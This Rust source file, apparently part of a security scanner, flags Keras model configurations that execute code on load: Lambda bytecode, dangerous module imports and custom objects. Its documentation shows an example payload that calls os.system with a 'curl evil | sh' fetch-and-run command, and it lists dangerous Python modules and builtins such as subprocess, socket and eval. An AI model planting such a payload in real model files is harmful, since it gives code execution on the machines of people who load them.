//! Keras model configurations: `.keras` archives (`config.json`,
//! `metadata.json`, `model.weights.h5`), the `model_config` attribute of
//! Keras H5 files and the per-object metadata of `keras_metadata.pb`.
//!
//! The whole configuration tree is walked (nested and functional models,
//! compile configs, activations given as objects) looking for what makes
//! `load_model` run code: `Lambda` layers and `__lambda__` objects carrying
//! marshalled Python bytecode, `module` entries that make Keras import
//! arbitrary modules, and custom objects that need the author's code.

use super::bytecode::{find_bytecode, Bytecode};
use super::GraphLimits;
use crate::finding::{abbreviate, Location};
use crate::formats::archive::zip::{self, ZipDirectory};
use crate::rule::Rule;
use crate::scan::ScanCtx;
use crate::severity::Severity;
use crate::source::{ByteSource, ReadError};
use serde_json::{json, Value};
use std::collections::{BTreeMap, BTreeSet};

/// A `Lambda` layer or `__lambda__` object carries Python bytecode.
pub static KERAS_LAMBDA_BYTECODE: Rule = Rule {
    id: "keras-lambda-bytecode",
    severity: Severity::Critical,
    summary: "The Keras configuration holds marshalled Python bytecode (a Lambda layer or lambda function) that runs when the model is loaded or called.",
    docs: r#"
## Why it matters
Keras serialises a Python `lambda` by `marshal`-ing its code object and storing it in
base64 in the configuration (`Lambda` layers, and `{"class_name": "__lambda__"}` for
lambdas used as activations or losses). Loading the model rebuilds the function from
that bytecode: whoever wrote the file chooses the code. Keras 3 refuses it while
`safe_mode=True` (the default of `keras.saving.load_model`), but `safe_mode=False`,
`keras.config.enable_unsafe_deserialization()`, tf.keras 2 and legacy H5 loading run
it (CVE-2024-3660).

## Example
`{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__",
"config": {"value": ["4wEAAAAAAAAA...", null, null]}}}}`

## What to do
Do not load the model with unsafe deserialisation. Ask for a model without Lambda
layers (a subclassed layer registered in code you review), or re-create the lambda
from its source.

## References
- https://keras.io/api/models/model_saving_apis/model_saving_and_loading/ (`safe_mode`)
- CVE-2024-3660 (arbitrary code injection through Lambda layers)
"#,
};

/// A `Lambda` layer that names a function instead of carrying bytecode.
pub static KERAS_LAMBDA_LAYER: Rule = Rule {
    id: "keras-lambda-layer",
    severity: Severity::High,
    summary: "The model has a Lambda layer that runs a Python function named by the configuration.",
    docs: r#"
## Why it matters
A `Lambda` layer runs an arbitrary Python callable. When it is not stored as
bytecode, the configuration names the function (and its module), which Keras looks up
when the model is loaded: the model runs whatever that name resolves to in your
environment.

## What to do
Check which function the layer names and where it comes from.
"#,
};

/// A `module` entry outside Keras and TensorFlow.
pub static KERAS_MODULE_IMPORT: Rule = Rule {
    id: "keras-module-import",
    severity: Severity::High,
    summary: "The Keras configuration names a module outside Keras and TensorFlow; loading imports it and calls into it.",
    docs: r#"
## Why it matters
Keras 3 configurations record each object's `module`; deserialisation imports that
module and looks the `class_name` up in it. A module such as `os`, `subprocess` or
`builtins` lets a configuration call `os.system` or `eval` during `load_model`, even
with `safe_mode=True` in Keras before 3.9 (CVE-2025-1550). Modules of other packages
are reported at high severity: loading needs them installed and runs their code.

## Example
`{"module": "os", "class_name": "system", "config": "curl evil | sh"}`

## What to do
Do not load the model with a Keras older than 3.9; review every module it names.

## References
- CVE-2025-1550 (arbitrary module import in `Model.load_model`)
"#,
};

/// A custom (registered) object that needs the author's code.
pub static KERAS_CUSTOM_OBJECT: Rule = Rule {
    id: "keras-custom-object",
    severity: Severity::Medium,
    summary: "The model uses custom Keras objects: loading it needs code from its author.",
    docs: r#"
## Why it matters
Custom layers, losses and metrics are registered with
`keras.saving.register_keras_serializable` and serialised as `"package>Name"`. The
model only loads if you import the author's package or pass `custom_objects`, which
means running their code with the model's configuration as input.

## What to do
Review the package that defines the custom objects before installing it.
"#,
};

/// The configuration is not valid JSON (or not where Keras looks for it).
pub static KERAS_MALFORMED_CONFIG: Rule = Rule {
    id: "keras-malformed-config",
    severity: Severity::Medium,
    summary: "The Keras configuration is not valid JSON or lacks what Keras expects, so it was not analysed.",
    docs: r#"
## Why it matters
A configuration the scanner cannot read cannot be vouched for, and a parser
differential (duplicate keys, invalid UTF-8) can hide a layer from one reader while
another loads it.

## What to do
Re-save the model with Keras and scan it again.
"#,
};

/// Module prefixes Keras and TensorFlow serialise for their own objects.
const TRUSTED_MODULES: &[&str] = &["keras", "tensorflow", "tf_keras"];

/// Modules that give a configuration code execution or system access.
const DANGEROUS_MODULES: &[&str] = &[
    "os",
    "posix",
    "nt",
    "subprocess",
    "sys",
    "builtins",
    "__builtin__",
    "shutil",
    "socket",
    "importlib",
    "runpy",
    "pickle",
    "marshal",
    "ctypes",
    "pty",
    "code",
    "codeop",
    "webbrowser",
    "urllib",
    "http",
    "requests",
    "multiprocessing",
    "signal",
    "tempfile",
    "io",
    "pathlib",
    "commands",
    "platform",
    "numpy.testing",
];

/// Builtins that evaluate code, import modules or touch files.
const DANGEROUS_BUILTINS: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "__import__",
    "open",
    "getattr",
    "setattr",
    "delattr",
    "globals",
    "locals",
    "vars",
    "input",
    "breakpoint",
    "exit",
    "quit",
];

/// What a configuration walk saw, for the facts.
#[derive(Debug, Default, Clone)]
pub struct ConfigSummary {
    /// `class_name`s seen, with counts.
    pub class_names: BTreeMap<String, u64>,
    /// Objects found in `layers` lists.
    pub layers: u64,
    /// `keras_version`, when known.
    pub keras_version: Option<String>,
    /// `backend`, when known.
    pub backend: Option<String>,
    /// Whether any configuration was analysed.
    pub analysed: bool,
    /// Hashes of the bytecode already reported (a SavedModel's metadata
    /// repeats a layer's config in every enclosing model).
    pub code_seen: BTreeSet<u64>,
}

impl ConfigSummary {
    /// Record the summary as fact `key`.
    pub fn report(&self, ctx: &mut ScanCtx<'_>, key: &str) {
        if !self.analysed && self.keras_version.is_none() {
            return;
        }
        ctx.fact(
            key,
            json!({
                "keras_version": self.keras_version,
                "backend": self.backend,
                "layers": self.layers,
                "class_names": self.class_names,
            }),
        );
    }
}

/// Where a configuration was found.
#[derive(Debug, Clone, Copy)]
pub struct Origin<'a> {
    /// How messages name it (`config.json`, ``attribute `model_config` ``).
    pub label: &'a str,
    /// Archive member holding it, if any: JSON pointers are placed inside it.
    pub member: Option<&'a str>,
    /// Prefix of every JSON pointer.
    pub base: &'a str,
}

impl<'a> Origin<'a> {
    /// A configuration named `label`, not inside a member.
    pub fn new(label: &'a str) -> Origin<'a> {
        Origin {
            label,
            member: None,
            base: "",
        }
    }

    fn at(&self, pointer: &str) -> Location {
        let location = Location::JsonPointer {
            pointer: format!("{}{pointer}", self.base),
        };
        match self.member {
            Some(member) => location.in_member(member),
            None => location,
        }
    }
}

/// Parse `bytes` as a Keras configuration found at `origin` and analyse it.
pub fn analyze_json(
    ctx: &mut ScanCtx<'_>,
    bytes: &[u8],
    origin: Origin<'_>,
    summary: &mut ConfigSummary,
) {
    match serde_json::from_slice::<Value>(bytes) {
        Ok(value) => analyze_value(ctx, &value, origin, summary),
        Err(e) => {
            let f = ctx.finding(
                &KERAS_MALFORMED_CONFIG,
                origin.at(""),
                format!(
                    "{} is not valid JSON ({e}); it was not analysed",
                    origin.label
                ),
            );
            ctx.push(f);
        }
    }
}

/// Analyse a parsed Keras configuration.
pub fn analyze_value(
    ctx: &mut ScanCtx<'_>,
    value: &Value,
    origin: Origin<'_>,
    summary: &mut ConfigSummary,
) {
    summary.analysed = true;
    let limits = ctx.limits().graphs.clone();
    let mut walker = Walker {
        ctx,
        limits,
        origin,
        summary,
        limit_hit: false,
    };
    walker.walk(value, String::new(), 0, false);
}

struct Walker<'a, 'o> {
    ctx: &'a mut ScanCtx<'o>,
    limits: GraphLimits,
    origin: Origin<'a>,
    summary: &'a mut ConfigSummary,
    limit_hit: bool,
}

/// Escape one JSON pointer token (RFC 6901).
fn token(s: &str) -> String {
    s.replace('~', "~0").replace('/', "~1")
}

impl Walker<'_, '_> {
    fn walk(&mut self, value: &Value, pointer: String, depth: u32, in_layers: bool) {
        if depth > self.limits.max_config_depth {
            if !self.limit_hit {
                self.limit_hit = true;
                let max = self.limits.max_config_depth;
                let what = format!("in {} at {pointer}", self.origin.label);
                self.ctx.limit_hit("graphs.max_config_depth", max, &what);
            }
            return;
        }
        match value {
            Value::Array(items) => {
                for (i, item) in items.iter().enumerate() {
                    self.walk(item, format!("{pointer}/{i}"), depth + 1, in_layers);
                }
            }
            Value::Object(map) => {
                let mut skip_function = false;
                if let Some(class) = map.get("class_name").and_then(Value::as_str) {
                    if in_layers {
                        self.summary.layers = self.summary.layers.saturating_add(1);
                    }
                    let internal = class.starts_with("__");
                    if !internal
                        && (self.summary.class_names.len() < 1000
                            || self.summary.class_names.contains_key(class))
                    {
                        let n = self
                            .summary
                            .class_names
                            .entry(class.to_owned())
                            .or_insert(0);
                        *n = n.saturating_add(1);
                    }
                    skip_function = self.object(map, class, &pointer);
                }
                for (key, child) in map {
                    if skip_function && key == "config" {
                        continue;
                    }
                    let layers = key == "layers";
                    self.walk(
                        child,
                        format!("{pointer}/{}", token(key)),
                        depth + 1,
                        layers,
                    );
                }
            }
            _ => {}
        }
    }

    /// Check one serialised object. Returns whether its `config` was fully
    /// reported (a Lambda layer with bytecode) and need not be walked.
    fn object(&mut self, map: &serde_json::Map<String, Value>, class: &str, pointer: &str) -> bool {
        let module = map.get("module").and_then(Value::as_str);
        let registered = map.get("registered_name").and_then(Value::as_str);
        let config = map.get("config");
        if class == "function" {
            // Keras 3 serialises a named function as
            // `{"module": "builtins", "class_name": "function", "config": "name"}`.
            let name = config.and_then(Value::as_str).unwrap_or_default();
            match module {
                Some("builtins") | None => self.named_function(name, pointer),
                Some(module) => self.module(module, name, pointer),
            }
            return false;
        }
        if let Some(module) = module {
            self.module(module, class, pointer);
        }
        let custom = registered
            .filter(|r| r.contains('>'))
            .or_else(|| class.contains('>').then_some(class));
        if let Some(name) = custom {
            let package = name.split('>').next().unwrap_or_default();
            if !is_trusted_module(package) {
                let f = self.ctx.finding(
                    &KERAS_CUSTOM_OBJECT,
                    self.origin.at(pointer),
                    format!(
                        "custom object `{}` (class `{}`) in {}: loading needs the code that registers it",
                        abbreviate(name, 120),
                        abbreviate(class, 120),
                        self.origin.label
                    ),
                );
                self.ctx.push(f.with_help("review the package that defines it before installing it or passing it as custom_objects"));
            }
        }
        match class {
            "__lambda__" => {
                let code = config.and_then(find_bytecode);
                self.lambda_code(pointer, "a lambda function", code);
                true
            }
            "Lambda" => {
                let function = config.and_then(|c| c.get("function"));
                if let Some(code) = function.and_then(find_bytecode) {
                    self.lambda_code(pointer, "Lambda layer", Some(code));
                    return true;
                }
                let named = function.and_then(function_name);
                let fmodule = config
                    .and_then(|c| c.get("module"))
                    .and_then(Value::as_str)
                    .unwrap_or_default();
                let what = match named {
                    Some(name) if !fmodule.is_empty() => format!("`{fmodule}.{name}`"),
                    Some(name) => format!("`{name}`"),
                    None => "a function".to_owned(),
                };
                let f = self.ctx.finding(
                    &KERAS_LAMBDA_LAYER,
                    self.origin.at(pointer),
                    format!("Lambda layer in {} runs {what}", self.origin.label),
                );
                self.ctx.push(f.with_help(
                    "find the function it names and check where it comes from before loading",
                ));
                false
            }
            _ => false,
        }
    }

    fn lambda_code(&mut self, pointer: &str, what: &str, code: Option<Bytecode>) {
        if let Some(code) = &code {
            if !self.summary.code_seen.insert(code.hash) {
                return;
            }
        }
        let mut f = self.ctx.finding(
            &KERAS_LAMBDA_BYTECODE,
            self.origin.at(pointer),
            format!(
                "{what} in {} carries marshalled Python bytecode{}",
                self.origin.label,
                code.as_ref()
                    .map(|c| format!(" ({} bytes)", c.len))
                    .unwrap_or_default()
            ),
        );
        if let Some(code) = code {
            if !code.names.is_empty() {
                f = f.with_evidence(format!("names in the bytecode: {}", code.names.join(", ")));
            }
        }
        self.ctx.push(f.with_help(
            "loading runs this code when safe_mode is off (and always with tf.keras 2 or legacy H5 loading); do not load the model",
        ));
    }

    /// A function referred to by name: a builtin that runs code is critical,
    /// any other name needs the author's code.
    fn named_function(&mut self, name: &str, pointer: &str) {
        let location = self.origin.at(pointer);
        if DANGEROUS_BUILTINS.contains(&name) {
            let f = self.ctx.finding(
                &KERAS_MODULE_IMPORT,
                location,
                format!(
                    "{} names the Python builtin `{name}` as a function",
                    self.origin.label
                ),
            );
            self.ctx.push(f.with_severity(Severity::Critical).with_help(
                "a configuration that calls this builtin can run code; do not load the model",
            ));
            return;
        }
        let f = self.ctx.finding(
            &KERAS_CUSTOM_OBJECT,
            location,
            format!(
                "custom function `{}` in {}: loading needs the code that defines it",
                abbreviate(name, 120),
                self.origin.label
            ),
        );
        self.ctx.push(
            f.with_help("review the code that defines it before passing it as custom_objects"),
        );
    }

    fn module(&mut self, module: &str, class: &str, pointer: &str) {
        if is_trusted_module(module) {
            return;
        }
        let root = module.split('.').next().unwrap_or_default();
        let dangerous = DANGEROUS_MODULES.contains(&module) || DANGEROUS_MODULES.contains(&root);
        let mut f = self.ctx.finding(
            &KERAS_MODULE_IMPORT,
            self.origin.at(pointer),
            format!(
                "{} makes Keras import `{}` and look up `{}`",
                self.origin.label,
                abbreviate(module, 120),
                abbreviate(class, 120)
            ),
        );
        if dangerous {
            f = f.with_severity(Severity::Critical).with_help(
                "this module gives the configuration system access; do not load the model",
            );
        } else {
            f = f.with_help("loading imports this module and runs its code; review it first");
        }
        self.ctx.push(f);
    }
}

fn is_trusted_module(module: &str) -> bool {
    TRUSTED_MODULES
        .iter()
        .any(|t| module == *t || module.strip_prefix(t).is_some_and(|r| r.starts_with('.')))
}

/// The name of a function stored by name (`function_type: "function"`, or a
/// Keras 3 `{"class_name": "function", "config": "name"}`).
fn function_name(function: &Value) -> Option<String> {
    match function {
        Value::String(s) => Some(abbreviate(s, 120)),
        Value::Object(m) => m
            .get("config")
            .and_then(Value::as_str)
            .map(|s| abbreviate(s, 120)),
        _ => None,
    }
}

/// Scan a `.keras` archive's `config.json` and `metadata.json` (the zip
/// scanner scans the other members, `model.weights.h5` included, itself).
pub fn scan_archive(
    src: &mut dyn ByteSource,
    dir: &ZipDirectory,
    ctx: &mut ScanCtx<'_>,
) -> Result<(), ReadError> {
    let max_json = ctx.limits().graphs.max_json_bytes;
    let mut summary = ConfigSummary::default();
    if let Some(entry) = dir.find("metadata.json") {
        if entry.size > max_json {
            ctx.limit_hit("graphs.max_json_bytes", max_json, "in metadata.json");
        } else if let Some(member) = zip::read_member(src, entry, ctx)? {
            if let Ok(Value::Object(meta)) = serde_json::from_slice::<Value>(member.bytes()) {
                summary.keras_version = meta
                    .get("keras_version")
                    .and_then(Value::as_str)
                    .map(|s| abbreviate(s, 60));
                if let Some(date) = meta.get("date_saved").and_then(Value::as_str) {
                    ctx.fact("keras_date_saved", json!(abbreviate(date, 60)));
                }
            }
        }
    }
    match dir.find("config.json") {
        Some(entry) if entry.size > max_json => {
            ctx.limit_hit("graphs.max_json_bytes", max_json, "in config.json");
        }
        Some(entry) => {
            if let Some(member) = zip::read_member(src, entry, ctx)? {
                let bytes = member.bytes();
                ctx_analyze(ctx, bytes, &mut summary);
            }
        }
        None => {
            let f = ctx.finding(
                &KERAS_MALFORMED_CONFIG,
                Location::File,
                "the .keras archive has no config.json",
            );
            ctx.push(f);
        }
    }
    summary.report(ctx, "keras");
    Ok(())
}

fn ctx_analyze(ctx: &mut ScanCtx<'_>, bytes: &[u8], summary: &mut ConfigSummary) {
    let origin = Origin {
        label: "config.json",
        member: Some("config.json"),
        base: "",
    };
    analyze_json(ctx, bytes, origin, summary);
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    #[test]
    fn token_escapes() {
        assert_eq!(token("a/b~c"), "a~1b~0c");
    }

    #[test]
    fn trusted_modules() {
        assert!(is_trusted_module("keras.layers"));
        assert!(is_trusted_module("keras"));
        assert!(!is_trusted_module("kerasx"));
        assert!(!is_trusted_module("os"));
    }
}
